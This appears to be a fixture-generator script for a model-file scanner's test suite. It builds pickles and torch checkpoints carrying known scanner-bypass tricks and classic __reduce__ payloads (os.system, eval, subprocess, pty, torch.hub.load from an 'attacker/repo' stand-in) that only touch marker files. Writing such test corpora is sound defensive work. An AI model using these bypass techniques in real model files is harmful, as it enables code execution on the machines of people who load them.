#!/usr/bin/env python3
"""Writes the scanner's attack corpus: one file per known scanner-bypass family and per classic
payload (issue 14), each a real pickle (CPython's pickler via __reduce__, torch.save's own
containers) or a pickle assembled opcode by opcode where the bypass is a byte pattern.

    python make_scan_attacks.py OUTDIR      (scripts/fixtures.sh: __test__/fixtures/generated/scan-attacks/)

Writes every file and `scan-attacks.json`:

    {"<file>": {"family": "...", "expect": ["os.system", ...],     # names scan must flag dangerous
                "weights_only": "E_..."|"loads",   # torchsave load(weightsOnly: true)
                "unsafe": "E_..."|"loads",         # torchsave load(weightsOnly: false): inert data
                "marker": "<abs path>",            # what the payload would create if it ran
                "python_resolves": [[module, name], ...]}}   # what real pickle's find_class is asked

`python_resolves` is the oracle for the byte-pattern bypasses: CPython's own `pickle._Unpickler`
runs each hand-made pickle with a `find_class` that records the name and returns an inert stub
(nothing is imported or called), so the names are what Python would really import. Every
payload would create its marker file if it ran (`touch`, `open(..., 'w')`); tests check the
markers stay absent.
"""
import collections
import io
import json
import os
import pickle
import struct
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import torch  # noqa: E402

import make_fixtures  # noqa: E402  (write_tar: the real 0.1.x tar layout)

OUT = None
ATTACKS = collections.OrderedDict()


def marker(fname):
    return os.path.join(OUT, "markers", fname + ".ran")


def attack(fname, family, expect, weights_only="E_UNSAFE_GLOBAL", unsafe="loads"):
    def deco(fn):
        ATTACKS[fname] = dict(family=family, expect=expect, weights_only=weights_only, unsafe=unsafe, make=fn)
        return fn
    return deco


# --- a tiny assembler (protocol 2-4 opcodes) -------------------------------------------------

def P(n=2):
    return b"\x80" + bytes([n])


def G(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def U(s):
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def BY(b):
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


MARK, TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE, REDUCE, STOP = b"(", b"t", b"\x85", b"\x86", b")", b"R", b"."
EMPTY_DICT, SETITEM, BUILD, POP, NONE, MEMOIZE, STACK_GLOBAL, NEWTRUE = b"}", b"s", b"b", b"0", b"N", b"\x94", b"\x93", b"\x88"


def BINPUT(i):
    return b"q" + bytes([i])


def BINGET(i):
    return b"h" + bytes([i])


def call(fn, *args):
    """fn(*args) where fn and args are already pickle fragments."""
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def touch(fname):
    return "touch " + marker(fname)


def py_open(fname):
    return f"open({marker(fname)!r}, 'w').close()"


class Stub:
    """What the recording unpickler hands back for every global: inert, absorbs everything."""

    def __init__(self, *a, **k):
        pass

    def __call__(self, *a, **k):
        return Stub()

    def __setstate__(self, state):
        pass


def python_resolves(data):
    """The (module, name) pairs CPython's unpickler asks find_class for, without importing."""
    seen = []

    class Recorder(pickle._Unpickler):
        def find_class(self, module, name):
            # What find_class would import after fix_imports (protocol < 3): _compat_pickle's maps.
            if self.proto < 3 and self.fix_imports:
                import _compat_pickle
                if (module, name) in _compat_pickle.NAME_MAPPING:
                    module, name = _compat_pickle.NAME_MAPPING[(module, name)]
                elif module in _compat_pickle.IMPORT_MAPPING:
                    module = _compat_pickle.IMPORT_MAPPING[module]
            seen.append([module, name])
            return Stub

        def persistent_load(self, pid):
            return Stub()

    f = io.BytesIO(data)
    while f.tell() < len(data):
        try:
            Recorder(f).load()
        except EOFError:
            break
        except Exception:  # noqa: BLE001 - a trailing non-pickle ends the stream
            break
    return seen


# --- containers ----------------------------------------------------------------------------

def torch_zip(path, pkl, extra=()):
    """A torch-style zip holding `pkl` as data.pkl (plus `extra` (name, bytes) records)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pkl)
        z.writestr("archive/byteorder", b"little")
        for n, b in extra:
            z.writestr(f"archive/{n}", b)
        z.writestr("archive/version", b"3\n")


class Reduce:
    """An object whose __reduce__ is (fn, args): what an attacker pickles."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def tsave(path, obj, **kw):
    torch.save(obj, path, **kw)


def data_pkl_of(path):
    with zipfile.ZipFile(path) as z:
        return z.read([n for n in z.namelist() if n.endswith("/data.pkl")][0])


# --- the scanner-bypass families -----------------------------------------------------------

@attack("bypass_memo_confusion.pt", "memo confusion: BINPUT and MEMOIZE mixed (picklescan#14)", ["os.system"])
def _(p, f):
    # Python's MEMOIZE stores at len(memo), whatever explicit BINPUT indices came before; a scanner
    # that numbers MEMOIZE by its own counter (or after the highest index) reads index 3 as
    # something else or nothing: real memo semantics give os.system.
    pkl = (P(4) + U("torch._utils") + MEMOIZE + U("_rebuild_tensor_v2") + MEMOIZE
           + U("os") + BINPUT(5) + U("system") + MEMOIZE + POP + POP + POP + POP
           + BINGET(5) + BINGET(3) + STACK_GLOBAL + MARK + U(touch(f)) + TUPLE + REDUCE + STOP)
    torch_zip(p, pkl)
    return pkl


@attack("bypass_inst.pt", "INST opcode (protocol 0) as the import (picklescan#13)", ["os.system"])
def _(p, f):
    pkl = b"(S'" + touch(f).encode() + b"'\nios\nsystem\n."
    torch_zip(p, pkl)
    return pkl


@attack("bypass_importlib.pt", "importlib.import_module + getattr (picklescan#66)",
        ["importlib.import_module", "builtins.getattr"])
def _(p, f):
    mod = call(G("importlib", "import_module"), U("os"))
    fn = call(G("builtins", "getattr"), mod, U("system"))
    pkl = P() + fn + MARK + U(touch(f)) + TUPLE + REDUCE + STOP
    torch_zip(p, pkl)
    return pkl


@attack("bypass_marshal.pt", "marshal.loads of a code object run through types.FunctionType (picklescan#74)",
        ["marshal.loads", "types.FunctionType"])
def _(p, f):
    import marshal
    code = marshal.dumps(compile(py_open(f), "<attack>", "exec"))
    fn = call(G("types", "FunctionType"), call(G("marshal", "loads"), BY(code)), EMPTY_DICT)
    pkl = P() + fn + EMPTY_TUPLE + REDUCE + STOP
    torch_zip(p, pkl)
    return pkl


@attack("bypass_pkgutil.pt", "pkgutil.resolve_name('os:system') (GHSA-vvpj-8cmc-gx39)", ["pkgutil.resolve_name"])
def _(p, f):
    pkl = P() + call(G("pkgutil", "resolve_name"), U("os:system")) + MARK + U(touch(f)) + TUPLE + REDUCE + STOP
    torch_zip(p, pkl)
    return pkl


@attack("bypass_getattr_chain.pt", "attribute chain: getattr(getattr(torch.serialization, 'os'), 'system')",
        ["builtins.getattr"])
def _(p, f):
    os_mod = call(G("builtins", "getattr"), G("torch", "serialization"), U("os"))
    fn = call(G("builtins", "getattr"), os_mod, U("system"))
    pkl = P() + fn + MARK + U(touch(f)) + TUPLE + REDUCE + STOP
    torch_zip(p, pkl)
    return pkl


@attack("bypass_dotted_qualname.pt", "dotted qualname: STACK_GLOBAL('torch.serialization', 'os.system')",
        ["torch.serialization.os.system"])
def _(p, f):
    pkl = P(4) + U("torch.serialization") + U("os.system") + STACK_GLOBAL + MARK + U(touch(f)) + TUPLE + REDUCE + STOP
    torch_zip(p, pkl)
    return pkl


@attack("bypass_build_then_global.pt",
        "BUILD sets torch._utils._rebuild_tensor_v2 = os.system, then the allowed name is called (modelscan#85)",
        ["torch._utils", "os.system"], unsafe="E_BAD_PICKLE")
def _(p, f):
    state = NONE + EMPTY_DICT + U("_rebuild_tensor_v2") + G("posix", "system") + SETITEM + TUPLE2
    pkl = (P(4) + U("torch") + U("_utils") + STACK_GLOBAL + state + BUILD + POP
           + U("torch._utils") + U("_rebuild_tensor_v2") + STACK_GLOBAL + MARK + U(touch(f)) + TUPLE + REDUCE + STOP)
    torch_zip(p, pkl)
    return pkl


@attack("bypass_mailcap.pt", "mailcap.findmatch runs a test command (picklescan#69)", ["mailcap.findmatch"])
def _(p, f):
    caps = EMPTY_DICT + U("x/y") + b"]" + EMPTY_DICT + U("test") + U(touch(f)) + SETITEM + U("view") + U("") + SETITEM + b"a" + SETITEM
    pkl = P() + call(G("mailcap", "findmatch"), caps, U("x/y")) + STOP
    torch_zip(p, pkl)
    return pkl


@attack("bypass_ext_code.pt", "EXT1 names a copyreg extension registered by the loading process", ["copyreg extension 7"],
        weights_only="E_UNSAFE_GLOBAL")
def _(p, f):
    pkl = P() + b"\x82\x07" + MARK + U(touch(f)) + TUPLE + REDUCE + STOP
    torch_zip(p, pkl)
    return pkl


# --- classic payloads (real pickles through __reduce__ and torch.save) ----------------------

def classic(fname, family, expect, make_obj, **kw):
    @attack(fname, family, expect, **kw)
    def _(p, f):
        tsave(p, {"w": torch.zeros(2), "x": make_obj(f)})
        return data_pkl_of(p)


classic("classic_os_system.pt", "__reduce__ to os.system (pickled as posix.system)", ["os.system"],
        lambda f: Reduce(os.system, touch(f)))
classic("classic_builtins_eval.pt", "__reduce__ to builtins.eval", ["builtins.eval"], lambda f: Reduce(eval, py_open(f)))
classic("classic_builtins_exec.pt", "__reduce__ to builtins.exec", ["builtins.exec"], lambda f: Reduce(exec, py_open(f)))
classic("classic_builtins_getattr.pt", "__reduce__ to builtins.getattr (then called)", ["builtins.getattr"],
        lambda f: Reduce(getattr, Reduce(__import__, "os"), "system"))
classic("classic_builtins_import.pt", "__reduce__ to builtins.__import__", ["builtins.__import__"],
        lambda f: Reduce(__import__, "os"))


def _sub():
    import subprocess
    return subprocess


classic("classic_subprocess.pt", "__reduce__ to subprocess.check_call", ["subprocess.check_call"],
        lambda f: Reduce(_sub().check_call, ["touch", marker(f)]))


def _mod(name):
    import importlib
    return importlib.import_module(name)


classic("classic_runpy.pt", "__reduce__ to runpy._run_code", ["runpy._run_code"],
        lambda f: Reduce(_mod("runpy")._run_code, py_open(f), {}))
classic("classic_webbrowser.pt", "__reduce__ to webbrowser.open", ["webbrowser.open"],
        lambda f: Reduce(_mod("webbrowser").open, "file://" + marker(f)))
classic("classic_socket.pt", "__reduce__ to socket.create_connection", ["socket.create_connection"],
        lambda f: Reduce(_mod("socket").create_connection, ("127.0.0.1", 9)))
classic("classic_pty.pt", "__reduce__ to pty.spawn", ["pty.spawn"], lambda f: Reduce(_mod("pty").spawn, ["touch", marker(f)]))
classic("classic_code.pt", "__reduce__ to code.InteractiveInterpreter().runsource via methodcaller",
        ["code.InteractiveInterpreter", "operator.methodcaller"],
        lambda f: Reduce(_mod("operator").methodcaller("runsource", py_open(f)),
                         Reduce(_mod("code").InteractiveInterpreter)))
classic("classic_pdb.pt", "__reduce__ to pdb.run", ["pdb.run"], lambda f: Reduce(_mod("pdb").run, py_open(f)))
classic("classic_cprofile.pt", "__reduce__ to cProfile.run", ["cProfile.run"], lambda f: Reduce(_mod("cProfile").run, py_open(f)))
classic("classic_profile.pt", "__reduce__ to profile.run", ["profile.run"], lambda f: Reduce(_mod("profile").run, py_open(f)))
classic("classic_timeit.pt", "__reduce__ to timeit.timeit", ["timeit.timeit"],
        lambda f: Reduce(_mod("timeit").timeit, py_open(f), "pass", None, 1))
classic("classic_torch_hub.pt", "__reduce__ to torch.hub.load", ["torch.hub.load"],
        lambda f: Reduce(torch.hub.load, "attacker/repo", "model"))
classic("classic_functools_partial.pt", "functools.partial(os.system, cmd) called", ["functools.partial", "os.system"],
        lambda f: Reduce(_mod("functools").partial(os.system, touch(f))))
classic("classic_operator_attrgetter.pt", "operator.attrgetter('system')(os) called", ["operator.attrgetter"],
        lambda f: Reduce(_mod("operator").attrgetter("system"), Reduce(__import__, "os")))


@attack("classic_nt_system.pt", "GLOBAL nt.system (Windows' os.system)", ["os.system"])
def _(p, f):
    pkl = P() + call(G("nt", "system"), U(touch(f))) + STOP
    torch_zip(p, pkl)
    return pkl


@attack("classic_posix_system_py2.pt", "Python 2 names: commands.getoutput (fix_imports → subprocess)",
        ["subprocess.getoutput"])
def _(p, f):
    pkl = P() + call(G("commands", "getoutput"), U(touch(f))) + STOP
    torch_zip(p, pkl)
    return pkl


@attack("classic_fx_forward_from_src.pt", "torch.fx.graph_module._forward_from_src executes source (advisory)",
        ["torch.fx.graph_module._forward_from_src"])
def _(p, f):
    pkl = P() + call(G("torch.fx.graph_module", "_forward_from_src"), U(py_open(f)), EMPTY_DICT) + STOP
    torch_zip(p, pkl)
    return pkl


@attack("classic_dynamo.pt", "a torch._dynamo helper called from a pickle", ["torch._dynamo.eval_frame.innermost_fn"])
def _(p, f):
    pkl = P() + call(G("torch._dynamo.eval_frame", "innermost_fn"), G("posix", "system")) + STOP
    torch_zip(p, pkl)
    return pkl


@attack("classic_numpy_load.pt", "functools.partial(numpy.load, allow_pickle=True) via BUILD, then called",
        ["functools.partial", "numpy.load"])
def _(p, f):
    part = call(G("functools", "partial"), G("numpy", "load"))
    state = MARK + G("numpy", "load") + EMPTY_TUPLE + EMPTY_DICT + U("allow_pickle") + NEWTRUE + SETITEM + NONE + TUPLE
    pkl = P() + part + state + BUILD + MARK + U(marker(f) + ".npy") + TUPLE + REDUCE + STOP
    torch_zip(p, pkl)
    return pkl


@attack("classic_load_from_bytes.pt", "torch.storage._load_from_bytes holding a nested torch.save with os.system",
        ["os.system"])
def _(p, f):
    inner = io.BytesIO()
    torch.save({"x": Reduce(os.system, touch(f))}, inner)
    pkl = P() + call(G("torch.storage", "_load_from_bytes"), BY(inner.getvalue())) + STOP
    torch_zip(p, pkl)
    return pkl


# --- containers and hiding places -----------------------------------------------------------

@attack("container_legacy.pt", "legacy (torch < 1.6) stream whose object pickle calls os.system", ["os.system"])
def _(p, f):
    tsave(p, {"w": torch.ones(3), "x": Reduce(os.system, touch(f))}, _use_new_zipfile_serialization=False)


@attack("container_tar.tar", "pre-0.1.10 tar whose pickle member calls os.system", ["os.system"])
def _(p, f):
    import tarfile
    t = torch.ones(3)
    make_fixtures.write_tar(p, {"w": t})
    with tarfile.open(p) as tar:
        members = [(m, tar.extractfile(m).read()) for m in tar.getmembers()]

    class Pk(pickle.Pickler):
        def persistent_id(self, o):
            return "5000" if o is t else None   # write_tar's key for the first tensor

    buf = io.BytesIO()
    Pk(buf, protocol=2).dump({"w": t, "x": Reduce(os.system, touch(f))})
    with tarfile.open(p, "w", format=tarfile.PAX_FORMAT) as tar:
        for m, data in members:
            data = buf.getvalue() if m.name == "pickle" else data
            m.size = len(data)
            tar.addfile(m, io.BytesIO(data))
    return buf.getvalue()


@attack("container_tar_storage_header.tar",
        "pre-0.1.10 tar whose storages member's per-storage header pickle calls os.system (legacy_load unpickles it)",
        ["os.system"], unsafe="E_BAD_TAR")
def _(p, f):
    import tarfile
    make_fixtures.write_tar(p, {"w": torch.ones(3)})
    with tarfile.open(p) as tar:
        members = [(m, tar.extractfile(m).read()) for m in tar.getmembers()]
    count = pickle.dumps(1, protocol=2)
    evil = pickle.dumps(Reduce(os.system, touch(f)), protocol=2)
    out = []
    for m, data in members:
        if m.name == "storages":
            # count, then the first storage's header pickle: replaced by the payload, raw bytes kept.
            assert data.startswith(count)
            fh = io.BytesIO(data)
            pickle.load(fh)
            pickle.load(fh)  # (key, location, storage type): torch's own bytes, ours to read
            data = count + evil + data[fh.tell():]
        m.size = len(data)
        out.append((m, data))
    with tarfile.open(p, "w", format=tarfile.PAX_FORMAT) as tar:
        for m, data in out:
            tar.addfile(m, io.BytesIO(data))
    return evil


for _proto in range(6):
    def _mk(proto):
        @attack(f"protocol_{proto}.pkl", f"bare pickle, protocol {proto}, __reduce__ to os.system", ["os.system"])
        def _(p, f):
            data = pickle.dumps(Reduce(os.system, touch(f)), protocol=proto)
            with open(p, "wb") as fh:
                fh.write(data)
            return data
    _mk(_proto)


@attack("hidden_behind_tensors.pt", "a real state dict of 50 tensors with one os.system value deep inside",
        ["os.system"])
def _(p, f):
    sd = collections.OrderedDict((f"layer{i}.weight", torch.randn(4, 4)) for i in range(50))
    sd["layer25.extra"] = {"meta": [1, 2, {"k": Reduce(os.system, touch(f))}]}
    tsave(p, sd)
    return data_pkl_of(p)


@attack("hidden_after_stop.pt", "data.pkl is a clean state dict, then a second pickle calling os.system after its STOP",
        ["os.system"], weights_only="loads")
def _(p, f):
    buf = io.BytesIO()
    tsave(buf, {"w": torch.zeros(2)})
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        recs = [(n, z.read(n)) for n in z.namelist()]
    evil = pickle.dumps(Reduce(os.system, touch(f)), protocol=2)
    with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as z:
        for n, b in recs:
            z.writestr(n, b + evil if n.endswith("/data.pkl") else b)


@attack("hidden_other_record.pt", "a clean checkpoint plus a record archive/extra/payload holding an os.system pickle",
        ["os.system"], weights_only="loads")
def _(p, f):
    buf = io.BytesIO()
    tsave(buf, {"w": torch.zeros(2)})
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        recs = [(n, z.read(n)) for n in z.namelist()]
    evil = pickle.dumps(Reduce(os.system, touch(f)), protocol=2)
    with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as z:
        for n, b in recs:
            z.writestr(n, b)
        z.writestr("archive/extra/payload", evil)


def patch_crc(path):
    """Flips the CRC-32 of data.pkl in both its local header and its directory entry."""
    b = bytearray(open(path, "rb").read())
    with zipfile.ZipFile(path) as z:
        info = [i for i in z.infolist() if i.filename.endswith("/data.pkl")][0]
    want = struct.pack("<I", info.CRC)
    bad = struct.pack("<I", info.CRC ^ 0xDEADBEEF)
    assert b.count(want) >= 2
    b = b.replace(want, bad)
    open(path, "wb").write(bytes(b))


@attack("damaged_bad_crc.pt", "os.system in a data.pkl whose CRC-32 is wrong (torch ignores CRCs)", ["os.system"],
        weights_only="E_BAD_CRC", unsafe="E_BAD_CRC")
def _(p, f):
    tsave(p, {"w": torch.zeros(2), "x": Reduce(os.system, touch(f))})
    patch_crc(p)


@attack("damaged_central_directory.pt", "os.system in data.pkl; the central directory is overwritten with junk",
        ["os.system"], weights_only="E_BAD_ZIP", unsafe="E_BAD_ZIP")
def _(p, f):
    tsave(p, {"w": torch.zeros(2), "x": Reduce(os.system, touch(f))})
    b = bytearray(open(p, "rb").read())
    cd = b.rfind(b"PK\x01\x02")
    first = b.find(b"PK\x01\x02")
    b[first:cd + 4] = b"\xee" * (cd + 4 - first)
    open(p, "wb").write(bytes(b))


@attack("damaged_truncated_eocd.pt", "os.system in data.pkl; the file is cut before its end records", ["os.system"],
        weights_only="E_TRUNCATED", unsafe="E_TRUNCATED")
def _(p, f):
    tsave(p, {"w": torch.zeros(2), "x": Reduce(os.system, touch(f))})
    b = open(p, "rb").read()
    open(p, "wb").write(b[:b.find(b"PK\x01\x02")])


def main():
    global OUT
    OUT = os.path.abspath(sys.argv[1])
    os.makedirs(os.path.join(OUT, "markers"), exist_ok=True)
    for f in os.listdir(OUT):
        if os.path.isfile(os.path.join(OUT, f)):
            os.remove(os.path.join(OUT, f))
    table = collections.OrderedDict()
    for fname, a in ATTACKS.items():
        path = os.path.join(OUT, fname)
        pkl = a["make"](path, fname)
        entry = {k: v for k, v in a.items() if k != "make"}
        entry["marker"] = marker(fname)
        entry["python_resolves"] = python_resolves(pkl) if pkl is not None else None
        table[fname] = entry
    with open(os.path.join(OUT, "scan-attacks.json"), "w") as fh:
        json.dump(table, fh, indent=1)
        fh.write("\n")
    print(f"make_scan_attacks: {len(table)} files in {OUT}", file=sys.stderr)


if __name__ == "__main__":
    main()
